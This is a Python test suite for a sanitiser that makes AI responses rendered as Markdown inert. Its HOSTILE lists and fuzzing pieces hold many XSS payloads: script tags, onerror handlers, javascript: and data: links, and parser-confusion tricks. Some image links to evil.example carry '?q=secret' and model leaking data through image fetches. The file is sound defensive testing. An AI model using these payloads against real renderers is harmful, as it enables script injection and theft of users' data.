"""Responses as Markdown: no HTML or script works, and plain text is unchanged.

nbconvert's renderer does not sanitise, and CommonMark with raw HTML stands for every other one that does not.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser
from itertools import chain

import nbformat
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from nbconvert import HTMLExporter
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from azml_magics.display.markdown import make_inert

SCRIPT = "<script>alert(1)</script>"
IMAGE = "<img src=x onerror=alert(1)>"


class Live(HTMLParser):
    """Collects what of a page would do something: elements Markdown has no use for, handlers, script links."""

    # fmt: off
    PLAIN = frozenset([
        "p", "h1", "h2", "h3", "h4", "h5", "h6", "a", "em", "strong", "code", "pre", "ul", "ol", "li", "table", "thead",
        "tbody", "tr", "th", "td", "blockquote", "hr", "br", "del", "s", "div", "span", "input", "dl", "dt", "dd", "img",
    ])
    # fmt: on

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag not in self.PLAIN:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            target = re.sub(r"[\x00-\x20]", "", html.unescape(value or "")).lower()
            scheme = re.match(r"[a-z][a-z0-9+.-]*:", target)
            if name.startswith("on") or (name == "style" and "align" not in target):
                self.found.append(f"<{tag} {name}>")
            if name in {"src", "srcset", "poster", "background"} and target.startswith(("http", "//", "ftp")):
                self.found.append(f"<{tag} {name}={target}> is fetched")
            if name in {"href", "src", "action", "data"} and scheme and scheme[0] not in {"http:", "https:", "mailto:"}:
                self.found.append(f"<{tag} {name}={target}>")

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.found.append("<!-- -->")

    def handle_decl(self, decl):
        self.found.append("<!>")

    def handle_pi(self, data):
        self.found.append("<?>")


RENDERERS = {
    "nbconvert": markdown2html_mistune,
    "commonmark": MarkdownIt("commonmark", {"html": True}).render,
    "github": MarkdownIt("gfm-like", {"html": True, "linkify": False}).render,
}


def live_in(page):
    parser = Live()
    parser.feed(page)
    parser.close()
    return parser.found


def live(answer):
    """For each renderer that shows live HTML of a response: what is live."""
    shown = make_inert(answer)
    return {name: found for name, render in RENDERERS.items() if (found := live_in(render(shown)))}


REMOTE = [
    "![a](http://evil.example/?q=secret) ![b](//evil.example/x.png) ![c]( <https://evil.example/x> )",
    "![a][r] ![r] ![][r]\n\n[r]: http://evil.example/x.png",
    "[![badge](http://evil.example/b.svg)](http://fine.example)",
    "![a](\nhttp://evil.example/x.png\n'title')",
    "![a ![b](http://evil.example/1)](http://evil.example/2)",
    "![a\\](http://evil.example/x) ![a\\]](http://evil.example/x)",
    "![a](http&#58;//evil.example/x) ![a](&#104;ttp://evil.example/x) ![a](ht\ntp://evil.example)",
    "![a](\\\\evil.example\\share) ![a](/\\evil.example/x) ![a](http:\\\\evil.example)",
    "| ![a](http://evil.example/x) | <img src=http://evil.example/y> |\n|---|---|\n| ![b](//evil.example/z) | x |",
    "<picture><source srcset=//evil.example/x></picture> <video poster=//evil.example/x> <body background=//evil.example>",
    "- ![a](http://evil.example/x)\n\n  > ![b](http://evil.example/y)",
    "# ![a](http://evil.example/x)\n\n[^1]: ![b](http://evil.example/y)",
    "`![a](http://evil.example/x)` ``![a](http://evil.example/x)`` \\![a](http://evil.example/x)",
    "[![a](http://evil.example/x)",
    "!\\[a](http://evil.example) !&#91;a](http://evil.example)",
]
HOSTILE = [
    *REMOTE,
    "[![](![a](//x.y/z)",
    "```\n\n<script>alert(1)</script>",
    'http://x`$`{onclick="x"}',
    SCRIPT,
    IMAGE,
    f"# {SCRIPT}\n\n> {IMAGE}\n\n- {IMAGE}\n\n| {IMAGE} |\n|---|\n| {SCRIPT} |",
    "<!-- comment --> <?php ?> <!DOCTYPE x> <a href=x>",
    # code spans that end elsewhere than they seem to
    f"foo ` bar\nbaz ` {IMAGE} ` qux",
    f"`a\\` {IMAGE} `",
    f"\\`{IMAGE}`",
    f"``{IMAGE}`",
    f"[`](x) `{IMAGE}`",
    f"[a](x`y) ` b ` {IMAGE} `",
    f"https://x`y b` ` {IMAGE} `",
    f"~~a `b~~ c` `{IMAGE}`",
    f"*a `b* c` `{IMAGE}`",
    f"$`$ {IMAGE} `",
    f"| a `x | y` b `{IMAGE}` |\n|-|-|\n| `p | q` r `{IMAGE}` | z |",
    # fences that are none, or that end elsewhere
    f"- ```\n  a\n  ```\n  {SCRIPT}\n  ```",
    f"> ```\n> a\n```\n{SCRIPT}\n```\n{SCRIPT}",
    f"- a\n\n  ```\n\t```\n  {SCRIPT}\n  ```",
    f"-\tfoo\n   ~~~html\n   \n   {IMAGE}\n   ~~~",
    f"~~~\r~~~\r{SCRIPT}",
    f"para\n2. x\n    ~~~\n    {IMAGE}\n    ~~~",
    f"1. foo\n```\nx\n```\n    foo\n   foo\n      ~~~\n      {SCRIPT}\n      ~~~",
    f"foo\n```python\n: bar\n{SCRIPT}\n```",
    f"term\n: def\n~~~\n{SCRIPT}\n~~~",
    f"term\n: def\n```\nfoo\n\nbar {SCRIPT}\n```",
    f"a|b\n-|-\n```x|y\n{SCRIPT}|\n```",
    f"[foo]: /url '\n```\n'\n{SCRIPT}\n```",
    f"[foo]: http://x\n\n'title\n```\n'\n{SCRIPT}\n```",
    f"```mermaid\n{IMAGE}\n```",
    f"~~~ Mermaid\n{IMAGE}\n~~~",
    f"1. foo\n\n   ```html\n   {SCRIPT}\n   ```\n   {SCRIPT}",
    # math that reaches into a fence
    f"$$\n```\n$$\n{SCRIPT}\n```",
    f"Costs $$ a lot.\n\n$$\n```\n$$\n{SCRIPT}\n```",
    f"    $$\n\ntext\n\n$$\n```\n$$\n{SCRIPT}\n```\n",
    f"> foo\n$$\n***\n$$\n```\n$$\n{SCRIPT}\n```",
    f"- foo\n$$\nx\n\ny\n$$\n```\n$$\n{SCRIPT}\n```",
    f"\\begin{{a}}\n\\end{{b}}\n```\n\\end{{a}}\n{SCRIPT}\n```",
    f"\\\\[\n```\n\\\\]\n{SCRIPT}\n```",
    f"$a{IMAGE}b$ and $${SCRIPT}$$",
    # links
    "[a](javascript:alert(1)) ![a](javascript:alert(1)) <javascript:alert(1)>",
    "[a](JaVaScRiPt:alert(1)) [a](\x01javascript:alert(1)) [a](  javascript:alert(1))",
    "[a](javascript\\:alert(1))",
    "[a](\njavascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](java&#10;script:alert(1)) [a](&#106;avascript&colon;alert(1)) [a](java&Tab;script:alert(1))",
    "[a](javascript&amp;colon;alert(1))",
    "[a]: javascript:alert(1)\n\n[a] [b][a]",
    "[a]:\n javascript:alert(1)\n\n[a]",
    "[a]: <javascript:alert(1)>\n\n[a]",
    "[a](vbscript:x) [a](data:text/html,x) [a](file:///etc/passwd) ![a](data:text/html;base64,PHNjcmlwdD4=)",
    "`[a](`javascript:alert(1)) `\n[a](javascript:alert(1))`",
    '![a"onerror="alert(1)](x "y\'onload=\'z")',
    "[^1]: javascript:x\n\n[x]( javascript:x 'y')",
]


@pytest.mark.parametrize("answer", HOSTILE)
def test_hostile_response_has_no_live_html(answer):
    assert live(answer) == {}


def test_live_html_is_found_by_this_test():
    raw = {name: live_in(render(f"{IMAGE}\n\n[a](javascript:x)\n\n{SCRIPT}")) for name, render in RENDERERS.items()}
    assert "<img onerror>" in raw["nbconvert"]
    assert "<a href=javascript:x>" in raw["nbconvert"]
    assert all("<script>" in found for found in raw.values())


def test_exported_notebook_of_hostile_responses_has_no_live_html():
    outputs = [
        nbformat.v4.new_output(
            "execute_result", {"text/markdown": make_inert(answer), "text/plain": answer}, execution_count=1
        )
        for answer in HOSTILE
    ]
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x", outputs=outputs, execution_count=1)])
    notebook.metadata["language_info"] = {"name": "python"}
    page, _ = HTMLExporter(embed_images=False).from_notebook_node(notebook)
    body = page[page.index("<main>") :]
    assert body.count("jp-RenderedMarkdown") >= len(HOSTILE)
    # the page's own frame has a <main>, and nothing else that Markdown has not
    assert set(live_in(body[: body.index("</main>")])) <= {"<main>"}


def test_image_of_an_attachment_does_not_stop_an_export():
    assert "attachment" in markdown2html_mistune(make_inert("![x](attachment:foo.png)"))


def test_math_has_no_script_links():
    for answer in (
        "$\\href{javascript:alert(1)}{x}$",
        "\\href {javascript:x}{y}",
        "$\\let\\h=\\href \\h{javascript:x}{y}$",
    ):
        assert "\\href" not in make_inert(answer)
    assert make_inert("$\\href{https://x.y}{z}$") == "$\\href{https://x.y}{z}$"


# ---- whatever is put together ----------------------------------------------------------------------------------

# fmt: off
PIECES = st.sampled_from([
    "```", "~~~", "````", "```html", "`", "``", "$$", "$", "\\begin{a}", "\\end{a}", "\\\\[", "\\\\]", "#", "***", "---", "===",
    "[a]", "](", "]:", "(http://x)", "javascript:alert(1)", "http://x", "'", '"', "<!--", "-->", "<b>", "*", "~~", "_",
    "\\", "(", ")", "\\`", "&lt;", "<", "![", "\\$", "a|b", "|", "-|-", "foo", SCRIPT, IMAGE, " ", "  ", "    ", "\t", "\n",
    "\n\n", "\n- ", "\n1. ", "\n> ", "\n: ", "\r", "\u2028", "[x]: http://y",
    "](javascript:alert(1))", "java&#115;cript:", "](data:text/html,x)", "![a](//x.y/z)", "[![", "][x]", "&#91;", "<javascript:x>",
    "{=html}", '{onclick="x"}', ":::", "%", "---", "\\input{x}",
])
PROSE = st.sampled_from([
    "foo", "a|b", "|a|b|", "-|-", "", "", "", "- foo", "1. foo", "2. foo", "> foo", "- - foo", "  - foo", "    foo", "$$",
    "$$ x $$", "  $$", "x $$ y", "\\begin{a}", "\\end{a}", "\\\\[", "***", "# h", "[x]: http://y 'z", "'t'", "*a", "`x", "y`",
    "`a` `b`", "<!--", "- [ ] foo", "\ta", "-\tfoo", "$a", "b$", "![a](x 'y", "z')", SCRIPT, IMAGE, ": foo",
])
CODE = st.sampled_from([
    "x", "", "  y", SCRIPT, IMAGE, "- q", "> q", "$$", "\\end{a}", "***", "|a|", "a|b", "'", ": x", "`",
])
# fmt: on


@settings(max_examples=300)
@given(st.lists(PIECES, max_size=25).map("".join))
def test_any_combination_of_pieces_has_no_live_html(answer):
    assert live(answer) == {}


@st.composite
def fences(draw):
    pad, mark = " " * draw(st.integers(0, 6)), draw(st.sampled_from(["```", "~~~", "````"]))
    code = [pad + line for line in draw(st.lists(CODE, max_size=4))]
    closed = draw(st.sampled_from([True, True, True, False]))
    return [f"{pad}{mark}{draw(st.sampled_from(['', 'html', 'x y']))}", *code, *([pad + mark] if closed else [])]


@settings(max_examples=300)
@given(st.lists(st.lists(PROSE, max_size=4) | fences(), max_size=6).map(lambda parts: "\n".join(chain(*parts))))
def test_fences_and_their_surroundings_have_no_live_html(answer):
    assert live(answer) == {}


@given(st.text())
@example("")
@example("<")
@example("\x00<\x02b>")
@example("$$")
@example("%")
def test_text_without_code_loses_only_its_tags(text):
    shown = make_inert(text).replace(DOLLAR, "$")
    if "`" not in text and "~~~" not in text:
        assert not re.search(r"<[A-Za-z/!?]", shown)
    if not set(text) & set("<`~$\\[]\r\x0b\x0c\x85\u2028\u2029") and text.isprintable():
        assert shown == (f"\\{text}" if text.startswith("%") else text)  # a title for pandoc


@given(st.text(alphabet="<ab/`\n ", max_size=30))
def test_make_inert_twice_leaves_no_live_html(text):
    once = make_inert(text)
    assert live_in(RENDERERS["nbconvert"](make_inert(once))) == []


DOLLAR = "<span>\\$</span>"  # in which no reader looks for mathematics


# ---- what must not change --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "answer",
    [
        "Plain text with *stars*, _lines_, **bold** and a [link](https://learn.microsoft.com/azure?a=b#c).",
        "a < b, x <= y, 3 << 4, c <- d",
        "# Title\n\n1. one\n2. two\n   - three\n\n> quoted\n\n---\n\n- [ ] task",
        "| a | b |\n|---|---|\n| `x` | 2 |",
        "Inline $a + b$, display:\n\n$$\nE = mc^2\n$$\n\nand $x$, for $5.",
        "$$\n\\begin{align}\na &= b \\\\\nc &= d\n\\end{align}\n$$\n\n```python\nprint(1)\n```",
        "```html\n<b>bold</b>\n```",
        "Text before:\n```cpp\n#include <iostream>\nstd::vector<int> x;\n```\nText after, then\n\n```\n<plain>\n```",
        "````markdown\n```html\n<b>\n```\n````",
        "1. Install:\n   ```bash\n   pip install <name>\n   ```\n2. Run it.",
        "1.  Install:\n\n    ```bash\n    pip install <name>\n    ```\n\n2.  Run it.",
        "- outer\n  - inner\n\n    ```html\n    <b>\n    ```",
        "Sum: $$x$$ and then\n\n```java\nList<String> x;\n```",
        "See [the docs][1].\n\n[1]: https://learn.microsoft.com/azure",
        "`x` and ``a`b`` and `a & b`",
        "Emoji 🌊, Ümläute, 日本語, \\*escaped\\*",
        "[relative](./a.md#b) [mail](mailto:a@b.c) ![image](plots/z.png)",
    ],
)
def test_plain_response_is_unchanged(answer):
    assert make_inert(answer) == answer


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("Use <b> here", "Use &lt;b> here"),
        ("```python\nprint('unfinished <b>')", "```python\nprint('unfinished <b>')\n```"),
        ("~~~xml\n<a/>\n~~~", "```xml\n<a/>\n```"),  # pandoc sees no code in tildes that follow a line of text
        ("In words:\n~~~~\n```\n<a/>\n```", "In words:\n````\n```\n<a/>\n```\n````"),
        ("Use `<b>` here", "Use <code>&#60;b&#62;</code> here"),
        ("| `<b>` | x |", "| <code>&#60;b&#62;</code> | x |"),
        ("`` `<b>` ``", "<code>&#96;&#60;b&#62;&#96;</code>"),
        ("$a<b$", "$a< b$"),
        ("$$\na<b\n$$", "$$\na< b\n$$"),
        ("- ```html\n  <b>\n  ```", "- ```html\n  &lt;b>\n  ```"),
        ("it costs $5 <b> and $6", f"it costs {DOLLAR}5 &lt;b> and {DOLLAR}6"),
        ("$5 to $7, and $x^2$ or \\(a\\) or \\[ b \\]", f"{DOLLAR}5 to {DOLLAR}7, and $x^2$ or $a$ or $$ b $$"),
        ("`$a` and `$b` at [x](https://x.y/?a=$b&c=$d)", "`$a` and `$b` at [x](https://x.y/?a=$b&c=$d)"),
        ("![chart](https://x.y/z.png?q=secret)", "[picture: chart](https://x.y/z.png?q=secret)"),
        ("![](//x.y/z.png) ![a][1]", "[picture: ](//x.y/z.png) [picture: a][1]"),
        ("[a](x[b](javascript:alert(1))", "[a](x[b]\\(javascript:alert(1))"),
        ("a\r\nb\rc", "a  \nb  \nc"),
        ("[a](javascript:x)", "[a]\\(javascript:x)"),
        ("[note]: this", "[note]\\: this"),
    ],
)
def test_changed_response_looks_the_same(answer, shown):
    assert make_inert(answer) == shown


@pytest.mark.parametrize(
    "code", ["<b>", "a <b> *c* _d_ [e](f) | g", "\\<b>", "$<b>$", "<a href='x'>&amp;</a>", "  <b>"]
)
def test_code_span_shows_its_exact_text(code):
    if "|" in code:
        code = code.replace("|", "")
    for name, render in RENDERERS.items():
        page = render(make_inert(f"See `{code}` there"))
        shown = re.search(r"<code>(.*?)</code>", page)
        assert shown, (name, page)
        assert html.unescape(shown[1]) == code, name


# fmt: off
LONG = [
    "`", "` ``", "```a\n", "[", "](", "\\[<b ", "$<b ", "- ", "> ", "~~~ x\n", "\\begin{a}<b>\n", "&#", "&amp;", "<", "`a<b",
    "$", "![", "![a](", "\\(", "\\[", "$5 ", "](&", "$$\n", "x\n$$<b>$$\n", "- x\n  ```\n  <b>\n  ```\n", "<b>$$\nx\n$$\n", "1. ", "|`<b>`",
]
# fmt: on


@pytest.mark.parametrize("piece", LONG)
def test_long_response_of_one_repeated_piece_has_no_live_html(piece):
    """Each is 200,000 characters: anything quadratic would meet the suite's time limit here."""
    many = piece * (200_000 // len(piece))
    assert ("<b" in make_inert(many)) == ("```\n  <b>" in piece)
    assert "\n```\nx\n```" in make_inert(f"{many}\n```\nx\n```")


def test_lines_of_a_poem_stay_apart():
    poem = "Sparkling water at dawn,\nthe long row of keys falls still,\nthen the page is full."
    assert make_inert(poem).split("\n") == [line + "  " for line in poem.split("\n")[:-1]] + ["then the page is full."]
    assert make_inert("One paragraph.\n\nAnother.") == "One paragraph.\n\nAnother."
